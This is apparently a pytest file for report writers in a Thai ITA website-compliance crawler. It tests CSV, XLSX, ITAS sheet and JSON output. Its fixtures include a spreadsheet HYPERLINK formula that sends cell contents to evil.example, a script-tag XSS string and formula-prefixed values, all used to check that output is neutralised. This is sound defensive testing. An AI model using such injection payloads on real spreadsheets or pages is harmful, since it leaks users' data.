"""What coordinators and clerks get out of a run: CSV, XLSX, the per-agency ITAS sheet, run JSON."""
from __future__ import annotations

import csv
import datetime as dt
import json
import re
from collections import Counter

import pytest
from openpyxl import load_workbook

from crawler import rules
from crawler.models import (
    Agency, AgencyResult, Changes, CheckResult, Evidence, ItemResult, RulesInfo, Run, RunReport,
    SiteInfo, Status, TrendPoint,
)
from reports import csvreport, itas, jsonreport, labels, xlsxreport

RULES = rules.load("2568")
ITEMS = [(i.code, i.name) for i in RULES.items]
BOM = b"\xef\xbb\xbf"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/x?leak="&A1,"คลิกเพื่อดูเอกสาร")'
HOSTILE_HTML = "<script>alert(1)</script>"
THAI = re.compile(r"[\u0e00-\u0e7f]")

A1 = "https://www.nongbuasao.go.th"
A2 = "http://bankluay.go.th/main"
A3 = "https://บ้านหนองไผ่.ไทย"
PDF_THAI = A1 + "/ita/2568/%E0%B8%AA%E0%B8%82%E0%B8%A3/sorkhorror1-2568.pdf"
DRIVE = "https://drive.google.com/file/d/1AbCdEfGh/view"


def check(site: str, special: dict[str, dict], status: str = "ok", error: str = "") -> CheckResult:
    """A check of 28 items: found on the site's ITA 2568 page unless `special` says otherwise."""
    items = []
    for n, rule in enumerate(RULES.items, start=1):
        fields = dict(
            status=Status.found, reason="พบหลักฐานปี 2568", years_seen=[2568], years_needed=[2568],
            evidence=[Evidence(url=f"{site}/ita/2568/o{n}.html", text=rule.name, years=[2568])],
        ) | special.get(rule.code, {})
        items.append(ItemResult(code=rule.code, name=rule.name, hint=rule.expect, **fields))
    found = sum(i.status is Status.found for i in items)
    score = 0.0 if status == "unreachable" else round(100 * found / len(items), 2)
    band = next(b.band for b in RULES.bands if score >= b.min) if score >= RULES.bands[-1].min else "F"
    return CheckResult(site=SiteInfo(url=site, status=status, pages_fetched=0 if error else 64, error=error),
                       rules=RulesInfo(year=2568, items=28), as_of=dt.date(2025, 3, 20),
                       score=score, band=band, items=items)


def make_report() -> RunReport:
    first = check(A1, {
        "O1": dict(evidence=[Evidence(url=A1 + "/ita/2568/structure.html", text="โครงสร้างองค์กร")],
                   reason="พบหลักฐาน", years_seen=[], years_needed=[]),
        "O5": dict(status=Status.stale, reason="พบเฉพาะข้อมูลปี 2561-2565 แต่ต้องเป็นปี 2568",
                   evidence=[Evidence(url=A1 + "/plan/plan-2561-2565.pdf", text="แผนพัฒนาท้องถิ่น 2561-2565",
                                      years=[2561, 2565])], years_seen=[2561, 2565]),
        "O10": dict(status=Status.unverified, reason="ลิงก์ E-Service เป็น JavaScript ที่ติดตามไม่ได้",
                    evidence=[Evidence(url="javascript:openService()", text="บริการออนไลน์")],
                    years_seen=[], years_needed=[]),
        "O12": dict(evidence=[Evidence(url=PDF_THAI, text="สขร.1 ต.ค. 67 - มี.ค. 68", years=[2568]),
                              Evidence(url=A1 + "/ita/2568/procure-progress.html", text="ความก้าวหน้า",
                                       years=[2568])]),
        "O18": dict(status=Status.missing, evidence=[], years_seen=[], years_needed=[],
                    reason=f"ไม่พบช่องทางร้องเรียนการทุจริต {HOSTILE_HTML}"),
        "O23": dict(status=Status.missing, reason="ไม่พบในเว็บไซต์ (ตรวจ 64 หน้า)", evidence=[], years_seen=[]),
        "O25": dict(status=Status.stale, reason="อยู่ในหน้า ITA/OIT ปี 2567 ไม่ใช่ปี 2568", years_seen=[],
                    evidence=[Evidence(url=A1 + "/ita/2567/o25.pdf", text="แผนปฏิบัติการป้องกันการทุจริต")]),
        "O22": dict(status=Status.unverified, evidence=[Evidence(url=DRIVE, text="รายงานการรับทรัพย์สิน")],
                    reason="หลักฐานอยู่นอกเว็บไซต์ (drive.google.com) ต้องเปิดตรวจเอง", years_seen=[],
                    years_needed=[2567, 2568]),
    })
    second = check(A2, {
        "O4": dict(evidence=[Evidence(url=A2 + "/news.php", text=HOSTILE_FORMULA, years=[2568])]),
        "O7": dict(status=Status.stale, reason='พบรายงานปี 2566\nแต่ต้องเป็นปี "2567"', years_seen=[2566],
                   years_needed=[2567],
                   evidence=[Evidence(url=A2 + "/report/annual-2566.pdf", text="รายงานประจำปี 2566",
                                      years=[2566])]),
        "O9": dict(status=Status.missing, reason=HOSTILE_FORMULA, evidence=[], years_seen=[]),
        "O13": dict(status=Status.missing, reason="ไม่พบในเว็บไซต์ (ตรวจ 64 หน้า)", evidence=[],
                    years_seen=[], years_needed=[2567]),
    }, status="partial")
    third = check(A3, {
        rule.code: dict(status=Status.unverified, evidence=[], years_seen=[], reason="เข้าเว็บไซต์ไม่ได้ (dns)")
        for rule in RULES.items
    }, status="unreachable", error="dns")
    agencies = [
        AgencyResult(agency=Agency(id="nongbuasao.go.th", name="องค์การบริหารส่วนตำบลหนองบัวสร้าง", url=A1,
                                   province="อุบลราชธานี", district="เดชอุดม", type="อบต.",
                                   extra={"ผู้ประสานงาน": "นางสาวมาลี ใจดี", "โทร": "+66 45 123 456"}),
                     result=first),
        AgencyResult(agency=Agency(id="bankluay.go.th/main", name="เทศบาลตำบลบ้านกล้วย", url=A2,
                                   province="อุบลราชธานี", district="เมืองอุบลราชธานี", type="เทศบาลตำบล",
                                   extra={"ผู้ประสานงาน": "@SUM(1+1)", "หมายเหตุ": "-2+3"}),
                     result=second),
        AgencyResult(agency=Agency(id="บ้านหนองไผ่.ไทย", name="โรงเรียนบ้านหนองไผ่", url=A3,
                                   province="อุบลราชธานี", district="เดชอุดม", type="โรงเรียน",
                                   extra={"หมายเหตุ": "เว็บไซต์ใหม่"}),
                     result=third),
    ]
    counts = Counter(i.status for a in agencies for i in a.result.items)
    run = Run(id=7, started=dt.datetime(2025, 3, 20, 1, 0), finished=dt.datetime(2025, 3, 20, 3, 12),
              status="complete", rules_year=2568, as_of=dt.date(2025, 3, 20), agencies=3)
    return RunReport(
        run=run, items=ITEMS, agencies=agencies, history={}, changes=Changes(previous_run=6),
        trend=[TrendPoint(run_id=7, date=dt.date(2025, 3, 20), agencies=3, mean_score=55.0,
                          below_target=2, unreachable=1, counts={s: counts[s] for s in Status})],
    )


@pytest.fixture(scope="module")
def report() -> RunReport:
    return make_report()


def item_of(report: RunReport, agency: int, code: str) -> ItemResult:
    return next(i for i in report.agencies[agency].result.items if i.code == code)


def read_csv(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


# ---------------------------------------------------------------- CSV


def test_csv_has_bom_and_reads_back_one_row_per_agency_and_item(report, tmp_path):
    out = tmp_path / "run.csv"
    csvreport.write(report, out)
    raw = out.read_bytes()
    rows = read_csv(out)

    assert raw.startswith(BOM) and not raw.startswith(BOM * 2)
    assert b"\r\n" in raw  # RFC 4180 line ends
    assert list(rows[0]) == csvreport.HEAD + ["ผู้ประสานงาน", "โทร", "หมายเหตุ"] + csvreport.TAIL
    assert len(rows) == 3 * 28
    for row, (entry, item) in zip(rows, [(a, i) for a in report.agencies for i in a.result.items]):
        assert row["name"] == entry.agency.name and row["agency_id"] == entry.agency.id
        assert (row["code"], row["item"]) == (item.code, item.name)
        assert row["status"] == item.status.value
        assert row["status_th"] == labels.STATUS[item.status].th
    first = rows[0]
    assert (first["province"], first["district"], first["type"]) == ("อุบลราชธานี", "เดชอุดม", "อบต.")
    assert first["ผู้ประสานงาน"] == "นางสาวมาลี ใจดี" and first["หมายเหตุ"] == ""
    assert rows[-1]["หมายเหตุ"] == "เว็บไซต์ใหม่" and rows[-1]["โทร"] == ""


def test_csv_cells_quoting_urls_and_unreachable_sites(report, tmp_path):
    out = tmp_path / "run.csv"
    csvreport.write(report, out)
    rows = read_csv(out)
    by = {(r["agency_id"], r["code"]): r for r in rows}

    o12 = by["nongbuasao.go.th", "O12"]
    assert o12["evidence_urls"] == f"{PDF_THAI} | {A1}/ita/2568/procure-progress.html"
    assert o12["years_seen"] == "2568" and o12["score"] == "78.57" and o12["band"] == "B"
    assert by["nongbuasao.go.th", "O5"]["years_seen"] == "2561, 2565"
    assert by["nongbuasao.go.th", "O18"]["reason"] == f"ไม่พบช่องทางร้องเรียนการทุจริต {HOSTILE_HTML}"
    assert by["bankluay.go.th/main", "O7"]["reason"] == 'พบรายงานปี 2566\nแต่ต้องเป็นปี "2567"'
    assert by["bankluay.go.th/main", "O7"]["site_status"] == "partial"
    school = [r for r in rows if r["agency_id"] == "บ้านหนองไผ่.ไทย"]
    assert {r["status"] for r in school} == {"unverified"}
    assert {(r["site_status"], r["score"], r["band"]) for r in school} == {("unreachable", "", "")}


def test_csv_neutralises_formulas(report, tmp_path):
    out = tmp_path / "run.csv"
    csvreport.write(report, out)
    rows = read_csv(out)
    by = {(r["agency_id"], r["code"]): r for r in rows}

    for row in rows:
        for value in row.values():
            assert not value.lstrip().startswith(("=", "+", "-", "@")), value
    assert by["bankluay.go.th/main", "O9"]["reason"] == "'" + HOSTILE_FORMULA
    assert by["bankluay.go.th/main", "O9"]["ผู้ประสานงาน"] == "'@SUM(1+1)"
    assert by["bankluay.go.th/main", "O9"]["หมายเหตุ"] == "'-2+3"
    assert by["nongbuasao.go.th", "O1"]["โทร"] == "'+66 45 123 456"


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("  =1+1", "'  =1+1"), ("\t@x", "'\t@x"), ("-", "'-"),
    ("ปกติ = ไม่เป็นสูตร", "ปกติ = ไม่เป็นสูตร"), ("a\x00b\x1bc", "abc"), ("", ""),
])
def test_sheet_text(text, safe):
    assert labels.sheet_text(text) == safe


# ---------------------------------------------------------------- XLSX


def test_xlsx_sheets_values_and_layout(report, tmp_path):
    out = tmp_path / "out" / "run.xlsx"
    xlsxreport.write(report, out)
    csvreport.write(report, tmp_path / "run.csv")
    wb = load_workbook(out)

    assert wb.sheetnames == [xlsxreport.SUMMARY, xlsxreport.DETAILS]
    summary, details = wb[xlsxreport.SUMMARY], wb[xlsxreport.DETAILS]
    for ws in (summary, details):
        assert ws.freeze_panes == "B2"
        assert ws.column_dimensions["A"].width >= 20
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", c.coordinate

    head = [c.value for c in summary[1]]
    assert head[:6] == ["หน่วยงาน", "อำเภอ", "ประเภท", "สถานะเว็บไซต์", "คะแนน OIT (จำลอง)", "ระดับ"]
    assert head[-28:] == [code for code, _ in ITEMS]
    assert summary.max_row == 4
    first = [c.value for c in summary[2]]
    assert first[:6] == ["องค์การบริหารส่วนตำบลหนองบัวสร้าง", "เดชอุดม", "อบต.", "เข้าถึงได้", 78.57, "B"]
    assert first[6:10] == [22, 2, 2, 2]  # found, stale, missing, unverified
    assert summary.cell(2, 5).font.b and summary.cell(3, 5).value == 89.29 and not summary.cell(3, 5).font.b
    assert [c.value for c in summary[4]][3:6] == ["เข้าถึงไม่ได้", None, None]  # no score: not "0 points"
    for row, entry in zip(summary.iter_rows(min_row=2), report.agencies):
        for c, item in zip(row[-28:], entry.result.items):
            lab = labels.STATUS[item.status]
            assert c.value == lab.th
            assert c.fill.fgColor.rgb.lower().endswith(lab.bg.lstrip("#"))

    assert [c.value for c in details[1]] == [labels.COLUMNS_TH.get(n, n) for n in csvreport.columns(report)]
    assert details.max_row == 1 + 3 * 28
    as_text = [["" if c.value is None else str(c.value) for c in row] for row in details.iter_rows(min_row=2)]
    assert as_text == [list(r.values()) for r in read_csv(tmp_path / "run.csv")]


def test_xlsx_links_only_http_urls(report, tmp_path):
    out = tmp_path / "run.xlsx"
    xlsxreport.write(report, out)
    details = load_workbook(out)[xlsxreport.DETAILS]
    names = csvreport.columns(report)
    at = {n: names.index(n) for n in ("agency_id", "code", "evidence_urls")}
    links = {}
    for row in details.iter_rows(min_row=2):
        key = (row[at["agency_id"]].value, row[at["code"]].value)
        links[key] = row[at["evidence_urls"]].hyperlink.target if row[at["evidence_urls"]].hyperlink else None

    assert links["nongbuasao.go.th", "O12"] == PDF_THAI  # the first of two
    assert links["nongbuasao.go.th", "O22"] == DRIVE
    assert links["nongbuasao.go.th", "O10"] is None  # javascript: stays text
    assert links["nongbuasao.go.th", "O18"] is None  # no evidence
    assert all(t is None for (a, _), t in links.items() if a == "บ้านหนองไผ่.ไทย")
    assert all(t.startswith(("http://", "https://")) for t in links.values() if t)


# ---------------------------------------------------------------- ITAS sheet


def test_itas_rows_answer_urls_and_explanations(report):
    for entry in report.agencies:
        table = itas.rows(entry, ITEMS)
        assert [list(r) for r in table] == [itas.COLUMNS] * 28
        assert [(r["ข้อ"], r["รายการ"]) for r in table] == ITEMS
        for row, item in zip(table, entry.result.items):
            assert (row["มี/ไม่มี"] == "มี") is (item.status is Status.found)
            if item.status is Status.found:
                assert row["URL"] and row["URL"].split("\n") == [e.url for e in item.evidence]
            if item.status is Status.unverified:
                assert row["มี/ไม่มี"] == "ตรวจสอบเอง"
            assert THAI.search(row["คำอธิบาย"]), row

    first = {r["ข้อ"]: r for r in itas.rows(report.agencies[0], ITEMS)}
    assert first["O1"]["คำอธิบาย"] == "เผยแพร่ที่หน้า “โครงสร้างองค์กร” ของเว็บไซต์ (เมนู ITA 2568)"
    assert first["O12"]["คำอธิบาย"].startswith("เผยแพร่เป็นไฟล์ PDF “สขร.1 ต.ค. 67 - มี.ค. 68” (ปี 2568) ของเว็บไซต์")
    assert "และอีก 1 รายการ" in first["O12"]["คำอธิบาย"]
    assert first["O5"]["มี/ไม่มี"] == "ไม่มี"
    assert "2561-2565" in first["O5"]["คำอธิบาย"] and "ของปี 2568" in first["O5"]["คำอธิบาย"]
    assert RULES.item("O5").expect in first["O5"]["คำอธิบาย"]
    assert first["O18"]["มี/ไม่มี"] == "ไม่มี" and first["O18"]["URL"] == ""
    assert "เผยแพร่บนเว็บไซต์หลัก" in first["O18"]["คำอธิบาย"]
    assert first["O22"]["URL"] == DRIVE and "ตรวจเอง" in first["O22"]["คำอธิบาย"]
    second = {r["ข้อ"]: r for r in itas.rows(report.agencies[1], ITEMS)}
    assert second["O4"]["คำอธิบาย"].startswith("เผยแพร่ที่หน้า “=HYPERLINK")  # inert: not at the start
    school = itas.rows(report.agencies[2], ITEMS)
    assert {r["มี/ไม่มี"] for r in school} == {"ตรวจสอบเอง"}
    assert all("เข้าเว็บไซต์ไม่ได้" in r["คำอธิบาย"] for r in school)


def test_itas_item_without_result_is_left_to_the_clerk(report):
    entry = report.agencies[0].model_copy(deep=True)
    entry.result.items = entry.result.items[:-1]
    last = itas.rows(entry, ITEMS)[-1]
    assert (last["ข้อ"], last["มี/ไม่มี"], last["URL"]) == ("O28", "ตรวจสอบเอง", "")


def test_itas_files_xlsx_and_csv(report, tmp_path):
    paths = itas.write_all(report, tmp_path / "itas")
    assert len(paths) == len({p.name for p in paths}) == 3
    assert all(p.name.isascii() and p.suffix == ".xlsx" and p.is_file() for p in paths)
    assert paths[0].name == "itas-nongbuasao.go.th.xlsx"
    assert re.fullmatch(r"itas-bankluay\.go\.th_main-[0-9a-f]{8}\.xlsx", paths[1].name)

    ws = load_workbook(paths[0]).active
    assert [c.value for c in ws[1]] == itas.COLUMNS
    assert ws.freeze_panes == "B2" and ws.max_row == 29
    values = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    assert values["O1"][2].value == "มี" and values["O1"][3].hyperlink.target == A1 + "/ita/2568/structure.html"
    assert values["O10"][3].value == "javascript:openService()" and values["O10"][3].hyperlink is None
    assert values["O12"][3].value == f"{PDF_THAI}\n{A1}/ita/2568/procure-progress.html"
    cells = [c for r in load_workbook(paths[1]).active.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f" or str(c.value or "").startswith("=")]

    out = tmp_path / "one.csv"
    itas.write_agency(report.agencies[1], ITEMS, out)
    assert out.read_bytes().startswith(BOM)
    rows = read_csv(out)
    assert rows == [{k: labels.sheet_text(v) for k, v in r.items()} for r in itas.rows(report.agencies[1], ITEMS)]
    assert [r["มี/ไม่มี"] for r in rows].count("มี") == 25


# ---------------------------------------------------------------- JSON


def test_run_json_round_trips(report, tmp_path):
    out = tmp_path / "sub" / "run.json"
    jsonreport.write_run(report, out)
    raw = out.read_text(encoding="utf-8")
    data = json.loads(raw)

    assert "องค์การบริหารส่วนตำบลหนองบัวสร้าง" in raw and "\\u0e" not in raw
    assert {"run", "items", "agencies"} <= data.keys()
    assert data["items"][0] == ["O1", "โครงสร้างและอำนาจหน้าที่"]
    contract = data["agencies"][0]["result"]
    assert {"site", "rules", "as_of", "score", "items"} <= contract.keys()
    assert CheckResult.model_validate(contract) == report.agencies[0].result
    assert RunReport.model_validate(data) == report
